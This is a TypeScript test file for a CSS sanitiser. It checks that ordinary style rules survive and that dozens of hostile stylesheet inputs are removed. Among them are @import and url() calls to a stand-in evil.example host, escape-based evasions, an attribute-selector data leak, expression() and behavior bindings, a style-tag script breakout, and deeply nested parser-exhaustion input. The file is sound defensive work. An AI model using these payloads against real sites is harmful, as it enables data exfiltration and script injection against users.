import { describe, expect, test } from 'vitest'
import { cleanApart } from './clean.ts'
import { cleanStylesheet } from './clean-stylesheet.ts'

const image = `/company_images/${'0a'.repeat(16)}`

describe('rules that style a page are kept', () => {
  test.each([
    ['.a { color: red; position: fixed; inset: 0 }', ['color: red', 'position: fixed', 'inset: 0']],
    ['@media (min-width: 40em) { .a { color: blue } }', ['@media', 'color: #00f']],
    ['@keyframes turn { to { rotate: 1turn } }', ['@keyframes turn', 'rotate: 1turn']],
    ['.a { --own: 1rem; padding: calc(var(--own) * 2) }', ['--own: 1rem', 'calc(var(--own) * 2)']],
    ['.a { background: url(data:image/png;base64,iVBORw0KGgo=) }', ['data:image/png;base64,iVBORw0KGgo=']],
    [`.a { background-image: url("${image}") }`, [image]],
    ['.a::after { content: "→"; background: linear-gradient(red, color-mix(in srgb, red, blue)) }', ['→', 'gradient']],
    ['.a { .b & { color: red } }', ['.b &']],
  ])('%s', (source, parts) => {
    const { css, dropped } = cleanStylesheet(source)

    expect(dropped).toEqual([])
    for (const part of parts) expect(css).toContain(part)
  })
})

describe('what could reach elsewhere or run is left out', () => {
  const hostile = [
    '@import url("https://evil.example/x.css");',
    '@import "//evil.example/x.css" layer(a);',
    '@\\69mport "https://evil.example/x.css";',
    '@namespace svg url(https://evil.example/);',
    '@font-face { font-family: x; src: url(https://evil.example/f.woff) }',
    '@property --p { syntax: "<url>"; inherits: false; initial-value: url(https://evil.example/) }',
    '@page { background: url(https://evil.example/) }',
    '@counter-style x { symbols: url(https://evil.example/) }',
    '@whatever { .a { background: url(https://evil.example/) } }',
    '.a { background: url(https://evil.example/a.png) }',
    '.a { background: URL( "HTTPS://evil.example/a.png" ) }',
    '.a { background: u\\72l(https://evil.example/a.png) }',
    '.a { background: url(//evil.example/a.png) }',
    '.a { background: url(/users/sign_out?evil.example) }',
    '.a { background: url(/company_images/../api/evil.example) }',
    '.a { background: url(data:image/svg+xml;base64,evil.example) }',
    '.a { background: url(data:text/html,evil.example) }',
    '.a { background: url(javascript:evil.example) }',
    '.a { background: url(#evil.example) }',
    '.a { background-image: image-set("https://evil.example/a.png" 1x) }',
    '.a { background-image: -webkit-image-set(url(https://evil.example/a.png) 1x) }',
    '.a { --evil.example: url(https://evil.example/) }',
    '.a { background: image-set(var(--evil-example) 1x) }',
    '.a { color: var(--x, url(https://evil.example/)) }',
    '.a { background: src("https://evil.example/") }',
    '.a { background: image("https://evil.example/") }',
    '.a { background: cross-fade(url(https://evil.example/), red) }',
    '.a { background: paint(evil.example) }',
    '.a { background: element(#evil) }',
    '.a { cursor: url(https://evil.example/c.png), auto }',
    '.a { mask: url(https://evil.example/m.svg#x) }',
    '.a { filter: url(https://evil.example/f.svg#x) }',
    '.a { list-style: url(https://evil.example/) }',
    '.a { border-image: url(https://evil.example/) 1 }',
    '.a { clip-path: url(https://evil.example/#c) }',
    '.a::before { content: url(https://evil.example/) "x" }',
    '.a { width: expression(alert("evil")) }',
    '.a { behavior: url(evil.htc) }',
    '.a { -moz-binding: url(evil.xml#x) }',
    'input[value^="a"] { background: url(https://evil.example/a) }',
    '@media print { .a { background: url(https://evil.example/) } }',
    '@supports (color: red) { .a { background: url(https://evil.example/) } }',
    '@layer x { .a { background: url(https://evil.example/) } }',
    '@container (width > 1px) { .a { background: url(https://evil.example/) } }',
    '@keyframes k { to { background: url(https://evil.example/) } }',
    '.a { .b { background: url(https://evil.example/) } }',
    '} .a { background: url(https://evil.example/) } {',
    '/* } */ .a { background: url("https://evil.example/\\") } .b{") }',
    '</style><script>evil()</script><style> .a { background: url(https://evil.example/) }',
  ]
  test.each(hostile)('%s', (source) => {
    const { css } = cleanStylesheet(`${source}\n.fine { color: red }`)

    expect(css.toLowerCase()).not.toMatch(/evil|https?:|@import|url\(|expression|<script/)
  })

  test('and each is named with its line', () => {
    const { dropped } = cleanStylesheet(
      '@import "x";\n.a {\n  color: red;\n  background: url(https://evil.example/);\n}\n',
    )

    expect(dropped).toEqual([
      { line: 1, what: '@import' },
      { line: 4, what: 'background' },
    ])
  })

  test('while the rest of it stays', () => {
    const { css } = cleanStylesheet('.a { color: red; background: url(https://evil.example/) }')

    expect(css).toBe('.a {\n  color: red;\n}\n')
  })
})

describe('what overwhelms the parser ends apart from the server', () => {
  test.each([
    ['25,000 rules within one another', 'a{'.repeat(25_000)],
    ['10,000 sums within one another', `a{width:${'calc('.repeat(10_000)}`],
  ])('%s', async (_, source) => {
    expect(await cleanApart(source)).toBeNull()
  })

  test('and what does not is cleaned there as well', async () => {
    const source = '.ä { content: "✓" } @import "x";'
    expect(await cleanApart(source)).toEqual(cleanStylesheet(source))
  })
})
